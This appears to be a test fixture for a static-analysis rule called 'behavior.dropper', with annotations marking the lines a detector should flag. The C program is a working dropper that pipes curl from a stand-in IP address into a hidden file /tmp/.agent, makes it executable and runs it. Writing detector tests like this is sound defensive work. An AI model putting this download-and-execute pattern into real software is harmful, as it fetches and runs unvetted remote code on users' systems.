/*
 * behavior.dropper: the download goes through a pipe from curl. What
 * popen("curl ...", "r") gives is what the server sent; it is copied into
 * a hidden file that is made executable and run.
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
    char buf[4096];
    size_t n;
    FILE *in = popen("curl -fsSL http://203.0.113.61/agent.bin", "r");
    FILE *out = fopen("/tmp/.agent", "wb");
    if (!in || !out)
        return 1;
    while ((n = fread(buf, 1, sizeof buf, in)) > 0)
        fwrite(buf, 1, n, out);
    pclose(in);
    fclose(out);
    chmod("/tmp/.agent", 0755); // $ Alert[behavior.dropper]
    execl("/tmp/.agent", ".agent", (char *)NULL); // $ Alert[behavior.dropper]
    return 1;
}
